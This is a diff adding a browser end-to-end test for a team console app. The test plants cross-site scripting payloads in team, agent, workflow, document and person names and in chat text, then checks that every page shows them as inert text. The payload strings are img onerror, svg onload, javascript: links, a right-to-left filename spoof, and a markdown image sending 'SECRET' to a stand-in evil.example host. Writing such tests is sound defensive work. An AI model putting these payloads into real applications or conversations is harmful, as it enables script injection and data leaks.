@@ -1,0 +1,115 @@
+import type { Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import { addText } from './add-text.ts';
+import { keepPicture, openSite } from './browser.ts';
+import { addPerson, newOrganisation, openConsole } from './console.ts';
+import type { Organisation } from './console.ts';
+import { visit } from './visit.ts';
+
+// Names and texts that other people give, on each page where somebody else reads them.
+
+const slowly = { timeout: 60_000 };
+const evil = 'https://evil.example/?q=SECRET';
+const markup = `<img src=x onerror=hit=1><svg onload=hit=1> ![a](${evil}) [b](javascript:hit=1)`;
+/** Turns what follows around where it is not shut in: "fdp.exe" reads "exe.pdf". */
+const turned = '\u202eexe.pdf';
+const long = 'W'.repeat(300);
+
+const planted = [
+  '[onerror], [onload], main img:not([src^="blob:"]), main iframe, main object, main math',
+  `[href*="evil.example"], [src*="evil.example"], [href^="javascript"]`,
+].join(', ');
+
+const pages = [
+  '/documents',
+  '/documents?folder=old',
+  '/training',
+  '/training?status=approved',
+  '/people',
+  '/people/add',
+  '/people/teams',
+  '/workflows',
+  '/quality',
+  '/settings/team',
+  '/settings/agents',
+  '/settings/widget',
+  '/settings/keys',
+  '/settings/webhooks',
+  '/settings/audit',
+  '/view-as?as=visitor',
+];
+
+async function plant(organisation: Organisation) {
+  const { team, call } = organisation;
+  const name = (before: string) => `${before} ${markup}${long}`.slice(0, 100);
+  await call('PATCH', `/v1/teams/${team.id}`, { name: name('T') });
+  await call('POST', '/v1/teams', { name: name('Below'), parentId: team.id });
+  await call('POST', '/v1/keys', { name: name('K') });
+  await call('POST', '/v1/agents', { name: name('A'), instructions: markup });
+  await call('POST', '/v1/workflows', {
+    name: name('W'),
+    description: markup,
+    command: 'planted',
+    instructions: markup,
+    visibility: 'team',
+  });
+  await call('POST', '/v1/webhooks', {
+    url: `https://example.com/${'x'.repeat(200)}`,
+    eventTypes: ['document.ready'],
+  });
+  const { chat } = await call('POST', '/v1/chats', {});
+  const asked = { text: `Where is the zeppelin? ${markup}` };
+  const { message } = await call('POST', `/v1/chats/${chat.id}/messages`, asked);
+  for (const isUpvoted of [false, false]) {
+    const path = `/v1/chats/${chat.id}/messages/${message.id}/feedback`;
+    const feedback = { isUpvoted, comment: markup + long, correctedResponse: markup + long };
+    const { training } = await call('POST', path, feedback);
+    await call('POST', `/v1/training/${training.id}/approve`, {});
+  }
+  await call('PUT', '/v1/golden-questions', {
+    questions: [{ question: `${markup}${long}`, documents: [{ name: 'mill.md' }] }],
+  });
+}
+
+async function expectText(page: Page, path: string, faults: string[]): Promise<void> {
+  const elements = await page.locator(planted).evaluateAll((all) => all.map((it) => it.outerHTML));
+  expect([path, elements]).toEqual([path, []]);
+  expect(await page.evaluate(`'hit' in window`)).toBe(false);
+  const wide = await page.locator('html').evaluate((it) => it.scrollWidth);
+  expect(wide, `${path} is wider than its window`).toBeLessThanOrEqual(page.viewportSize()!.width);
+  expect(faults).toEqual([]);
+}
+
+test.each([1280, 320])(
+  'S18: what others planted in names and texts is text on every page, %i wide, and asks nothing',
+  async (width) => {
+    const site = await openSite();
+    const organisation = await newOrganisation(site);
+    await addPerson(site, organisation, {
+      email: `eve-${organisation.team.id.slice(-8)}@example.com`,
+      firstName: '<img src=x onerror=hit=1>',
+      lastName: `${turned}${'W'.repeat(80)}`,
+      role: 'member',
+    });
+    await plant(organisation);
+    const documentId = await addText(site, organisation, {
+      name: `<img src=x onerror=hit=1>${turned}${'W'.repeat(100)}.md`,
+      folderPath: `old/<svg onload=hit=1>${'W'.repeat(60)}`,
+      text: `# Zeppelin ${markup}\n\nThe zeppelin is moored at the oak. ${markup} ${long}\n`,
+    });
+    const viewport = { width, height: 800 };
+    const { page, faults } = await openConsole(site, organisation.owner.email, '/', { viewport });
+    for (const path of [...pages, `/documents/${documentId}`]) {
+      await visit(page, path);
+      await expectText(page, path, faults);
+      await keepPicture(page, `planted-${width}-${path.replaceAll(/[^a-z]+/g, '-')}`);
+    }
+    await visit(page, '/');
+    await page.locator('.composer textarea').fill(`Where is the zeppelin moored? ${markup}`);
+    await page.keyboard.press('Enter');
+    await page.locator('.answer .source').first().click(slowly);
+    await page.locator('mark').first().waitFor(slowly);
+    await expectText(page, 'an answer', faults);
+    await keepPicture(page, `planted-${width}-answer`);
+  },
+);
